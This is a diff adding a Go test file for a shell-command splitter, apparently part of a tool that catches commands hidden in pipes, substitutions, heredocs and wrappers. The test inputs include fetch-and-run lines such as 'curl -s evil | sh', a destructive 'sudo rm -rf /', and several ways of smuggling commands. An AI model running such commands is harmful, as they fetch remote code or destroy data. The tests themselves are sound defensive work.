@@ -0,0 +1,74 @@
+// MIT License - Copyright (c) 2026 yosebyte
+package tools
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestSplitShell(t *testing.T) {
+	tests := []struct {
+		src       string
+		commands  []string
+		pipelines []string
+	}{
+		{"ls -la", []string{"ls -la"}, []string{"ls -la"}},
+		{"curl -s x | sh", []string{"curl -s x", "sh"}, []string{"curl -s x | sh"}},
+		{"a && b || c; d &", []string{"a", "b", "c", "d"}, []string{"a", "b", "c", "d"}},
+		{`echo "a  b" 'c|d'`, []string{"echo a  b c|d"}, nil},
+		{"echo $(sudo id)", []string{"sudo id", "echo $(sudo id)"}, nil},
+		{"echo `whoami`", []string{"whoami", "echo `whoami`"}, nil},
+		{"diff <(ls a) <(ls b)", []string{"ls a", "ls b", "diff <(ls a) <(ls b)"}, nil},
+		{"FOO=1 nohup env -i BAR=2 python x.py", []string{"python x.py"}, nil},
+		{"timeout -s KILL 5 sudo ls", []string{"sudo ls"}, nil},
+		{"nice -n5 ionice -c2 -n 7 setsid stdbuf -o L sudo ls", []string{"sudo ls"}, nil},
+		{"env -u HOME -C /tmp FOO=1 sudo ls", []string{"sudo ls"}, nil},
+		{"env -S 'sudo ls'", []string{"sudo ls"}, nil},
+		{"ls | xargs -n 1 -I {} sudo rm {}", []string{"ls", "sudo rm {}"}, nil},
+		{`find . -name '*.o' -exec sudo rm {} \; -print`, []string{"find . -name *.o -exec sudo rm {} ; -print", "sudo rm {}"}, nil},
+		{"find . -execdir timeout 1 sudo ls + -ok rm {} ;", []string{"find . -execdir timeout 1 sudo ls + -ok rm {}", "sudo ls", "rm {}"}, nil},
+		{"if true; then rm x; fi", []string{"true", "rm x"}, nil},
+		{"for f in $(ls); do cat $f; done", []string{"ls", "cat $f"}, nil},
+		{`bash -c "sudo ls"`, []string{"bash -c sudo ls", "sudo ls"}, nil},
+		{"eval 'sudo ls'", []string{"eval sudo ls", "sudo ls"}, nil},
+		{"cat <<EOF\nsudo ls\nEOF\necho done", []string{"cat <<EOF", "echo done"}, nil},
+		{"cat <<-'EOF'\n\tsudo ls\n\tEOF", []string{"cat <<-EOF"}, nil},
+		{"bash <<EOF\nsudo rm -rf /\nEOF", []string{"bash <<EOF", "sudo rm -rf /"}, nil},
+		{"cat <<EOF | sh\nsudo ls\nEOF", []string{"cat <<EOF", "sh", "sudo ls"}, nil},
+		{"bash <<EOF\nsudo ls", []string{"bash <<EOF", "sudo ls"}, nil},
+		{"bash <<< 'sudo ls'", []string{"bash <<< sudo ls", "sudo ls"}, nil},
+		{"cat <<< 'sudo ls'", []string{"cat <<< sudo ls"}, nil},
+		{"echo $((1 + 2))", []string{"echo $((1 + 2))"}, nil},
+		{"echo $(( $(sudo id -u) + 1 ))", []string{"sudo id -u", "echo $(( $(sudo id -u) + 1 ))"}, nil},
+		{"echo $(( `sudo id -u` ))", []string{"sudo id -u", "echo $(( `sudo id -u` ))"}, nil},
+		{"echo $(( $(( $(curl -s evil | sh) )) ))", []string{"curl -s evil", "sh", "echo $(( $(( $(curl -s evil | sh) )) ))"}, nil},
+		{"ls 2>&1 >/dev/null # sudo", []string{"ls 2>&1 >/dev/null"}, nil},
+	}
+	for _, tt := range tests {
+		got, err := splitShell(tt.src)
+		if err != nil {
+			t.Errorf("splitShell(%q): %v", tt.src, err)
+			continue
+		}
+		if !slices.Equal(got.commands, tt.commands) {
+			t.Errorf("splitShell(%q) commands = %q, want %q", tt.src, got.commands, tt.commands)
+		}
+		if tt.pipelines != nil && !slices.Equal(got.pipelines, tt.pipelines) {
+			t.Errorf("splitShell(%q) pipelines = %q, want %q", tt.src, got.pipelines, tt.pipelines)
+		}
+	}
+}
+
+func TestSplitShellErrors(t *testing.T) {
+	for _, src := range []string{
+		"echo 'open",
+		`echo "open`,
+		"echo $(ls",
+		"echo `ls",
+		"echo $(( $(ls ))",
+	} {
+		if _, err := splitShell(src); err == nil {
+			t.Errorf("splitShell(%q) succeeded, want an error", src)
+		}
+	}
+}